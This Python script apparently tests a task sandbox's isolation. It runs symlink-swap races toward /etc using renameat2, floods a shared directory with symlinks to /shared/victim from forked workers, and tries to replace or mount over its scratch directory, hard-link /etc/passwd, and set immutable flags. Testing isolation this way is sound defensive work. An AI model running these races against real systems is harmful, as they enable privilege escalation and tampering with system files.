"""Links and races against whoever handles files for the task: `links.py MODE ARG...`.

* `swap PLACE SECONDS`: PLACE/dir is a directory and a symbolic link to /etc in turn, as fast as can be.
* `lend SOCKET`: hands out a directory of its scratch that everybody may write to, and ends.
* `hammer SOCKET SECONDS`: takes it, and fills and renames in it while it is being removed, with links that lead to
  /shared/victim.
* `own`: its own scratch directory, as seen from inside: renamed, removed, replaced, mounted over.
"""

import ctypes
import os
import socket
import sys
import time
from functools import partial

from attempts import attempt, call, say

RENAME_EXCHANGE, AT_FDCWD = 2, -100
SCRATCH = "/home/task"


def swap(place: str, seconds: str) -> None:
    one, other = f"{place}/dir".encode(), f"{place}/link".encode()
    os.symlink("/etc", other)
    say("swapping", "begins")
    deadline = time.monotonic() + float(seconds)
    count = 0
    while time.monotonic() < deadline:
        call("renameat2", AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
        count += 1
    say("swapped", str(count))


def lend(path: str) -> None:
    os.mkdir("lent")
    os.chmod("lent", 0o777)
    os.chmod(".", 0o711)
    with socket.socket(socket.AF_UNIX) as sender:
        sender.connect(path)
        socket.send_fds(sender, [b"x"], [os.open("lent", os.O_RDONLY | os.O_DIRECTORY)])
        sender.recv(1)


def hammer(path: str, seconds: str) -> None:
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(path)
        os.chmod(path, 0o777)
        door.listen()
        say("door", "open")
        giver, _ = door.accept()
    with giver:
        _, (lent,), _, _ = socket.recv_fds(giver, 1, 1)
        giver.send(b"x")
    deadline = time.monotonic() + float(seconds)
    made = refused = 0
    worker = next((number for number in range(3) if os.fork() == 0), 3)
    while time.monotonic() < deadline:
        name = f"{os.getpid()}-{made % 200}"
        for way in (
            partial(os.mkdir, name, dir_fd=lent),
            partial(os.symlink, "/shared/victim", f"{name}l", dir_fd=lent),
            partial(os.rename, f"{name}l", f"{name}m", src_dir_fd=lent, dst_dir_fd=lent),
            partial(call, "renameat2", lent, name.encode(), lent, f"{name}m".encode(), RENAME_EXCHANGE),
        ):
            try:
                way()
                made += 1
            except OSError:
                refused += 1
    say(f"hammered {worker}", f"{made} made, {refused} refused")


def own() -> None:
    attempt("rename", partial(os.rename, SCRATCH, "/home/other"))
    attempt("rename over", partial(os.rename, SCRATCH, "/tmp/other"))
    attempt("remove", partial(os.rmdir, SCRATCH))
    attempt("replace", partial(os.symlink, "/etc", SCRATCH))
    attempt("make beside", partial(os.mkdir, "/home/beside"))
    say("above", " ".join(os.listdir("/.pilfer")))
    attempt("mount over", lambda: call("mount", b"/tmp", SCRATCH.encode(), None, ctypes.c_ulong(4096), None))
    attempt("unmount", lambda: call("umount2", SCRATCH.encode(), 2))
    attempt("a file of the machine", partial(os.link, "/etc/passwd", "linked"))
    attempt("immutable", lambda: _flag(0x10))
    attempt("append only", lambda: _flag(0x20))


def _flag(flag: int) -> None:
    """FS_IOC_SETFLAGS: such a file could not be removed, not even by root."""
    fd = os.open("flagged", os.O_CREAT | os.O_RDONLY, 0o600)
    try:
        call("ioctl", fd, ctypes.c_ulong(0x40086602), ctypes.byref(ctypes.c_long(flag)))
    finally:
        os.close(fd)


def main() -> None:
    mode, *args = sys.argv[1:]
    if mode == "swap":
        swap(args[0], args[1])
    elif mode == "lend":
        lend(args[0])
    elif mode == "hammer":
        hammer(args[0], args[1])
    else:
        own()


main()
